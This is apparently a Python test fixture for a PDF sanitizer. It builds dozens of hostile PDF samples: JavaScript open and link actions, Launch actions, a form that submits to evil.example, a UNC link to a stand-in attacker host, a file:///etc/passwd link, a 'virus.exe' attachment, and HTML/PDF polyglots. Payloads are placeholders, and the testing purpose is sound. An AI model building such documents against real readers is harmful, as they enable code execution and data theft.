"""PDFs that act, or carry something else than pages."""

import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.documents.corpus import MARKER, bad
from tests.documents.making import (
    archive,
    attached,
    jpeg_with,
    pdf,
    picture,
    raw,
    saved,
    script,
    stream,
    with_annotation,
    with_catalog,
    with_link,
    with_stream,
)

ADDRESS = "https://evil.example/" + MARKER.decode()

# --- Scripts ----------------------------------------------------------------------------------


@bad("cv.pdf")
def a_script_when_it_is_opened():
    return with_catalog(OpenAction=script())


@bad("cv.pdf")
def a_script_kept_in_a_stream():
    made = pdf()
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=made.make_stream(MARKER))
    return saved(made)


@bad("cv.pdf")
def a_script_when_it_is_printed():
    return with_catalog(AA=Dictionary(WP=script(), WC=script()))


@bad("cv.pdf")
def a_script_when_its_page_is_turned():
    made = pdf()
    made.pages[0].obj.AA = Dictionary(O=script(), C=script())
    return saved(made)


@bad("cv.pdf")
def scripts_by_name():
    tree = Dictionary(Names=Array([String("a"), script()]), Kids=Array([Dictionary(Names=Array(["b", script()]))]))
    return with_catalog(Names=Dictionary(JavaScript=tree))


@bad("cv.pdf")
def a_script_behind_a_link():
    return with_link(**script())


@bad("cv.pdf")
def a_script_after_a_sound_link():
    return with_link(S=Name.URI, URI=String("https://example.org/"), Next=Array([script(), script()]))


@bad("cv.pdf")
def a_script_for_an_address():
    return with_link(S=Name.URI, URI=String("javascript:alert('" + MARKER.decode() + "')"))


@bad("cv.pdf")
def a_script_behind_a_bookmark():
    made = pdf()
    item = made.make_indirect(Dictionary(Title="CV", A=script()))
    made.Root.Outlines = made.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    return saved(made)


@bad("cv.pdf")
def a_script_that_makes_a_layer():
    made = pdf()
    layer = made.make_indirect(Dictionary(Type=Name.OCG, Name="x", AA=script(), Usage=Dictionary(JS=script())))
    made.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(ON=Array([layer]), AS=Array([script()])))
    return saved(made)


# --- Other actions ----------------------------------------------------------------------------


@bad("cv.pdf")
def a_program_started_when_it_is_opened():
    return with_catalog(OpenAction=Dictionary(S=Name.Launch, F=MARKER.decode(), Win=Dictionary(F=MARKER.decode())))


@bad("cv.pdf")
def a_program_started_by_a_link():
    return with_link(S=Name.Launch, F=String(MARKER))


@bad("cv.pdf")
def a_link_into_another_file():
    return with_link(S=Name.GoToR, F=String(b"\\\\evil.example\\" + MARKER), D=Array([0, Name.Fit]))


@bad("cv.pdf")
def a_link_into_an_attached_file():
    return with_link(S=Name.GoToE, T=Dictionary(R=Name.C, N=String(MARKER)), D=Array([0, Name.Fit]))


@bad("cv.pdf")
def a_link_to_a_file_of_the_reader_s():
    return with_link(S=Name.URI, URI=String(b"file:///etc/passwd?" + MARKER))


@bad("cv.pdf")
def an_address_with_a_line_break():
    return with_link(S=Name.URI, URI=String(b"https://example.org/\r\n" + MARKER))


@bad("cv.pdf")
def an_address_that_every_link_begins_with():
    return with_catalog(URI=Dictionary(Base=String(ADDRESS)))


@bad("cv.pdf")
def a_form_that_sends_itself():
    return with_link(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(ADDRESS)))


@bad("cv.pdf")
def a_form_that_fetches_data():
    return with_link(S=Name.ImportData, F=String(MARKER))


@bad("cv.pdf")
def a_link_that_hides():
    return with_link(S=Name.Hide, T=String(MARKER), H=True)


@bad("cv.pdf")
def a_film_played_by_a_link():
    return with_link(S=Name.Rendition, OP=0, JS=String(MARKER))


# --- Things carried ---------------------------------------------------------------------------


@bad("cv.pdf")
def an_attached_file():
    made = pdf()
    made.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["virus.exe", attached(made)])))
    return saved(made)


@bad("cv.pdf")
def associated_files():
    made = pdf()
    made.Root.AF = made.pages[0].obj.AF = Array([attached(made)])
    return saved(made)


@bad("cv.pdf")
def a_file_pinned_to_the_page():
    made = pdf()
    pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 20, 20]), FS=attached(made))
    made.pages[0].obj.Annots = Array([pin])
    return saved(made)


@bad("cv.pdf")
def a_collection_of_files():
    made = pdf()
    made.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["virus.exe", attached(made)])))
    made.Root.Collection = Dictionary(D=String("virus.exe"), View=Name.T)
    return saved(made)


@bad("cv.pdf")
def a_film_of_flash():
    return with_annotation(
        Subtype=Name.RichMedia,
        RichMediaContent=Dictionary(Configurations=Array([Dictionary(Subtype=Name.Flash, Name=String(MARKER))])),
    )


@bad("cv.pdf")
def a_film():
    return with_annotation(Subtype=Name.Movie, Movie=Dictionary(F=String(MARKER)), A=True)


@bad("cv.pdf")
def a_sound():
    made = pdf()
    sound = made.make_stream(MARKER, Type=Name.Sound, R=8000)
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Sound, Rect=Array([0, 0, 9, 9]), Sound=sound)
    made.pages[0].obj.Annots = Array([annotation])
    return saved(made)


@bad("cv.pdf")
def a_scene_in_three_dimensions():
    made = pdf()
    scene = made.make_stream(MARKER, Type=Name("/3D"), Subtype=Name.U3D, OnInstantiate=made.make_stream(MARKER))
    annotation = Dictionary({"/Type": Name.Annot, "/Subtype": Name("/3D"), "/Rect": Array([0, 0, 9, 9]), "/3DD": scene})
    made.pages[0].obj.Annots = Array([annotation])
    return saved(made)


@bad("cv.pdf")
def a_form_of_adobe_s():
    made = pdf()
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([String("template"), made.make_stream(MARKER)]))
    return saved(made)


@bad("cv.pdf")
def a_form_with_scripts():
    made = pdf()
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), Rect=Array([72, 600, 300, 620]),
        AA=Dictionary(K=script(), F=script(), V=script(), C=script()), A=script(), MK=Dictionary(CA=String(MARKER)),
    )  # fmt: skip
    field = made.make_indirect(field)
    made.pages[0].obj.Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]), NeedAppearances=True)
    return saved(made)


@bad("cv.pdf")
def a_signature():
    made = pdf()
    made.Root.Perms = Dictionary(
        DocMDP=Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String(MARKER))
    )
    return saved(made)


@bad("cv.pdf")
def notes_of_the_program_that_made_it():
    made = pdf()
    made.Root.Metadata = made.make_stream(MARKER, Type=Name.Metadata, Subtype=Name.XML)
    made.Root.PieceInfo = made.pages[0].obj.PieceInfo = Dictionary(Maker=Dictionary(Private=made.make_stream(MARKER)))
    made.pages[0].obj.Thumb = made.make_stream(MARKER)
    made.trailer.Info = made.make_indirect(Dictionary(Author=String(MARKER), GPS=String("48.85, 2.35")))
    return saved(made)


# --- Drawings that are not --------------------------------------------------------------------


@bad("cv.pdf")
def a_stream_kept_in_another_file():
    return with_stream(MARKER, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), F=String(ADDRESS), FFilter=Name.FlateDecode)


@bad("cv.pdf")
def a_drawing_from_another_file():
    reference = Dictionary(F=Dictionary(Type=Name.Filespec, F=String(ADDRESS)), Page=0)
    return with_stream(b"q Q", Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), Ref=reference)


@bad("cv.pdf")
def a_program_in_postscript():
    return with_stream(b"(" + MARKER + b") print", Subtype=Name.PS, Level1=String(MARKER))


@bad("cv.pdf")
def a_drawing_in_postscript():
    return with_stream(b"(" + MARKER + b") print", Subtype=Name.Form, Subtype2=Name.PS, BBox=Array([0, 0, 9, 9]))


@bad("cv.pdf")
def a_picture_with_another_for_printing():
    opi = Dictionary({"/2.0": Dictionary(Type=Name.OPI, F=String(ADDRESS))})
    return with_stream(
        b"\0", Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8, ColorSpace=Name.DeviceGray, OPI=opi,
        Alternates=Array([Dictionary(Image=Dictionary(F=String(ADDRESS)))]), Metadata=Dictionary(X=String(MARKER)),
    )  # fmt: skip


@bad("cv.pdf")
def a_photo_in_it_that_says_where():
    photo = jpeg_with((0xE1, b"Exif\0\0" + MARKER), (0xFE, MARKER)) + archive()
    return with_stream(
        photo, Filter=Name.DCTDecode, Subtype=Name.Image, Width=320, Height=240, BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB,
    )  # fmt: skip


@bad("cv.pdf")
def bytes_behind_a_compressed_picture():
    return with_stream(
        zlib.compress(b"\0") + MARKER, Filter=Name.FlateDecode, Subtype=Name.Image, Width=1, Height=1,
        BitsPerComponent=8, ColorSpace=Name.DeviceGray,
    )  # fmt: skip


# --- Two files in one -------------------------------------------------------------------------


@bad("cv.pdf")
def a_pdf_and_an_archive():
    return saved(pdf()) + archive()


@bad("cv.pdf")
def a_pdf_and_a_page():
    return b"<html><script>alert('" + MARKER + b"')</script>\n" + saved(pdf())


@bad("cv.pdf")
def a_pdf_and_a_picture():
    return saved(pdf()) + picture() + MARKER


@bad("cv.pdf")
def objects_that_no_page_shows():
    made = pdf()
    hidden = made.make_stream(MARKER, Hidden=script())
    made.trailer.Hidden = made.make_indirect(Array([hidden, script()]))
    return saved(made)


@bad("cv.pdf")
def a_version_before_the_last():
    sound = raw(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            stream(b"% " + MARKER),
        ]
    )
    changed = b"4 0 obj\n" + stream(b"q Q") + b"\nendobj\n"
    start, before = len(sound) + len(changed), sound.rfind(b"startxref\n") + 10
    before = int(sound[before:].split()[0])
    table = b"xref\n4 1\n%010d 00000 n \ntrailer\n<< /Root 1 0 R /Size 5 /Prev %d >>\n" % (len(sound), before)
    return sound + changed + table + b"startxref\n%d\n%%%%EOF\n" % start


@bad("cv.pdf")
def only_the_owner_has_a_password():
    return saved(pdf(), encryption=pikepdf.Encryption(owner="secret", user="", R=6))
